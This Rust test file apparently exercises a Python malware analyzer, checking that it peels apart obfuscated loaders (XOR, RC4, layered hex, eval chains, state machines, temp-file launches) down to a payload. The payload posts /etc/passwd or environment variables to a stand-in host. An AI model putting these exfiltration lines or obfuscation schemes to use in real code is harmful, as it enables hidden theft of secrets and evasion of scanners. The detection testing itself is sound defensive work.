//! Home-made decoders and self-unpackers give away what they carry. The payloads are inert.

use std::fmt::Write as _;

use foretaste_model::facts::{FileFacts, Layer};
use foretaste_model::{Capability, Limits};
use foretaste_python::observe;

const PAYLOAD: &str = "import requests\nrequests.post('https://collect.example.invalid/x', data=open('/etc/passwd').read())\n";

fn facts(code: &str) -> FileFacts {
    observe("module.py", code, &Limits::default())
}

/// The layer, however deep, in which the payload can be read.
fn payload(facts: &FileFacts) -> Option<&Layer> {
    facts.layers.iter().find_map(|layer| {
        let sends = layer.facts.flows.iter().any(|f| {
            f.steps
                .last()
                .is_some_and(|s| s.capability == Capability::NetworkHttp)
        });
        if sends && layer.executed {
            return Some(layer);
        }
        payload(&layer.facts)
    })
}

#[track_caller]
fn unpacks(code: &str) {
    let facts = facts(code);
    assert!(payload(&facts).is_some(), "{:#?}", facts.layers);
}

fn python_list(data: impl IntoIterator<Item = u32>) -> String {
    let mut out = String::from("[");
    for n in data {
        let _ = write!(out, "{n}, ");
    }
    out + "]"
}

#[test]
fn a_loop_with_a_repeating_key_is_run() {
    let key = b"inertkey";
    let data = PAYLOAD
        .bytes()
        .enumerate()
        .map(|(i, b)| u32::from(b ^ key[i % key.len()]));
    unpacks(&format!(
        "def dec(data, key):\n    out = ''\n    i = 0\n    while i < len(data):\n        out += chr(data[i] ^ ord(key[i % len(key)]))\n        i += 1\n    return out\nrun = exec\nrun(dec({}, 'inert' + 'key'))\n",
        python_list(data)
    ));
}

#[test]
fn letters_that_objects_of_the_interpreter_print_are_known() {
    let codes = python_list(PAYLOAD.bytes().map(u32::from));
    unpacks(&format!(
        "chars = getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0])\nexec(''.join(map(chars, {codes})))\n"
    ));
}

#[test]
fn names_that_are_evaluated_one_by_one_are_followed() {
    let data = PAYLOAD.chars().map(|c| u32::from(c) + 3);
    unpacks(&format!(
        "a = eval('\\x65\\x76\\x61\\x6c')\nb = a('com' + 'pile')\nd = {}\no = ''\nfor i in range(a(b('len(d)', '', a.__name__))):\n    o += a(b('chr(d[i] - True * 3)', '', a.__name__))\na(b('exec', '', a.__name__))(o)\n",
        python_list(data)
    ));
}

#[test]
fn layers_are_peeled_to_the_last_one() {
    let mut text = PAYLOAD.to_owned();
    for _ in 0..60 {
        let hex: String = text.bytes().rev().map(|b| format!("{b:02x}")).collect();
        // short layers, so that sixty of them stay small
        let packed: String = hex.chars().rev().collect();
        if packed.len() > 200_000 {
            break;
        }
        text = format!("_ = lambda __: bytes.fromhex(__[::-1])[::-1];exec((_)('{packed}'))");
        if text.len() > 100_000 {
            break;
        }
    }
    let facts = facts(&text);
    let layer = payload(&facts).unwrap();
    assert!(
        layer.steps.iter().any(|s| &**s == "hex"),
        "{:?}",
        layer.steps
    );
    assert!(
        layer.steps.iter().any(|s| s.ends_with(" layers")),
        "{:?}",
        layer.steps
    );
    // the wrappers themselves are no layers of their own
    assert_eq!(facts.layers.iter().filter(|l| l.executed).count(), 1);
}

#[test]
fn a_flattened_state_machine_is_walked() {
    let text = |s: &str| python_list(s.chars().map(|c| u32::from(c) + 7));
    let code = format!(
        "def d(x):\n    return ''.join(chr(c - 7) for c in x)\ns = 3\nwhile s:\n    if s == 3:\n        m = __import__(d({}))\n        s = 9\n    elif s == 9:\n        e = getattr(__import__(d({})), d({}))\n        s = 1\n    elif s == 1:\n        getattr(m, d({}))(d({}), json=dict(e))\n        s = 0\n",
        text("requests"),
        text("os"),
        text("environ"),
        text("post"),
        text("https://collect.example.invalid/y")
    );
    let facts = facts(&code);
    let flow = facts.flows.iter().find(|f| {
        f.steps
            .last()
            .is_some_and(|s| s.capability == Capability::NetworkHttp)
    });
    assert_eq!(
        flow.unwrap().steps[0].capability,
        Capability::EnvironmentReadAll
    );
}

#[test]
fn tables_closures_and_classes_are_followed() {
    let data = PAYLOAD.chars().map(u32::from);
    unpacks(&format!(
        "class Box:\n    def __init__(self, data, **names):\n        self.data = data\n        self.names = names\n    def text(self):\n        return ''.join(map(lambda t: t[1], enumerate(self.items())))\n    def items(self):\n        for n in self.data:\n            yield self.table()[n]\n    def table(self):\n        return dict((n, chr(n)) for n in range(128))\nglobals()['e' + 'x' + 'ec'] = vars(__builtins__)['exec']\nexec(Box({}, run=1).text())\n",
        python_list(data)
    ));
}

#[test]
fn a_cipher_with_its_key_beside_it_is_undone() {
    // RC4 here; AES and Fernet are checked against their published vectors
    let key = b"inert";
    let mut state: Vec<u8> = (0..=255).collect();
    let mut j = 0_u8;
    for i in 0..256 {
        j = j.wrapping_add(state[i]).wrapping_add(key[i % key.len()]);
        state.swap(i, usize::from(j));
    }
    let (mut i, mut j) = (0_u8, 0_u8);
    let hex: String = PAYLOAD
        .bytes()
        .map(|b| {
            i = i.wrapping_add(1);
            j = j.wrapping_add(state[usize::from(i)]);
            state.swap(usize::from(i), usize::from(j));
            let at = state[usize::from(i)].wrapping_add(state[usize::from(j)]);
            format!("{:02x}", b ^ state[usize::from(at)])
        })
        .collect();
    unpacks(&format!(
        "from Crypto.Cipher import ARC4\nexec(ARC4.new(b'inert').decrypt(bytes.fromhex('{hex}')))\n"
    ));
}

#[test]
fn what_does_not_decode_and_is_run_is_said() {
    let code = format!(
        "import vault\nexec(vault.unlock(b'{}'))\n",
        "\\x91\\x02\\xfe\\x33".repeat(80)
    );
    let facts = facts(&code);
    assert!(
        facts
            .layers
            .iter()
            .any(|l| l.executed && l.steps.iter().any(|s| &**s == "opaque")),
        "{:#?}",
        facts.layers
    );
}

#[test]
fn text_in_a_temporary_file_that_is_started_is_a_layer() {
    unpacks(&format!(
        "from tempfile import NamedTemporaryFile as f\nfrom os import system\nt = f(delete=False)\nt.write(b\"\"\"{PAYLOAD}\"\"\")\nt.close()\nsystem(f'start pythonw {{t.name}}')\n"
    ));
}

#[test]
fn code_behind_what_never_ends_is_read_too() {
    let decoder = format!(
        "def start():\n    key = 7\n    text = ''\n    for n in {}:\n        text += chr(n ^ key)\n    exec(text)\n",
        python_list(PAYLOAD.bytes().map(|b| u32::from(b) ^ 7))
    );
    let readers = "import os\ndef line():\n    all = bytearray()\n    while True:\n        c = os.read(0, 1)\n        if not c:\n            break\n        all += c\n    return all\n\
                   def serve():\n    while True:\n        if line() == b'end':\n            break\n";
    let walk = "def walk(node):\n    for child in node.children:\n        walk(child)\n        walk(child.left)\n    if node.right:\n        walk(node.right)\n";
    unpacks(&format!("{readers}{decoder}"));
    unpacks(&format!("{walk}{decoder}"));
}

#[test]
fn a_decoder_may_delete_what_it_has_read() {
    let numbers = python_list(PAYLOAD.bytes().map(u32::from));
    unpacks(&format!(
        "left = {numbers}\nnames = {{0: 'x'}}\ntext = ''\nwhile left:\n    text += chr(left[0])\n    del left[0]\ndel names[0]\nif not names:\n    exec(text)\n"
    ));
}

#[test]
fn a_decoder_may_call_itself_where_nobody_knows_whether_it_runs() {
    let numbers = python_list(PAYLOAD.bytes().map(|b| u32::from(b) + 3).rev());
    unpacks(&format!(
        "import os\ndef back(items):\n    if len(items) < 60:\n        return ''.join(chr(i - 3) for i in items[::-1])\n    return back(items[60:]) + back(items[:60][:59]) + chr(items[59] - 3)\n\
         if os.getenv('X'):\n    exec(''.join(chr(i - 3) for i in {numbers}[::-1]))\n    back([1, 2])\n"
    ));
}

#[test]
fn endless_programs_end() {
    for code in [
        "while True:\n    pass\nexec(x)\n",
        "x = 'a'\nwhile True:\n    x += x\nexec(x)\n",
        "x = [0]\nwhile 1:\n    x = x * 2\nexec(x)\n",
        "def f(n):\n    return f(n) + f(n)\nexec(f(1))\n",
        "exec('exec(\"x = 1\\\\nexec(open)\")')\ndef g():\n    yield g()\nexec(g())\n",
        "s = 'exec(s)'\nexec(s)\n",
        "exec('9' * 10 ** 12)\n",
        "x = []\nx.append(x)\nexec(repr(x) + str(x == x))\n",
    ] {
        let _ = facts(code);
    }
}
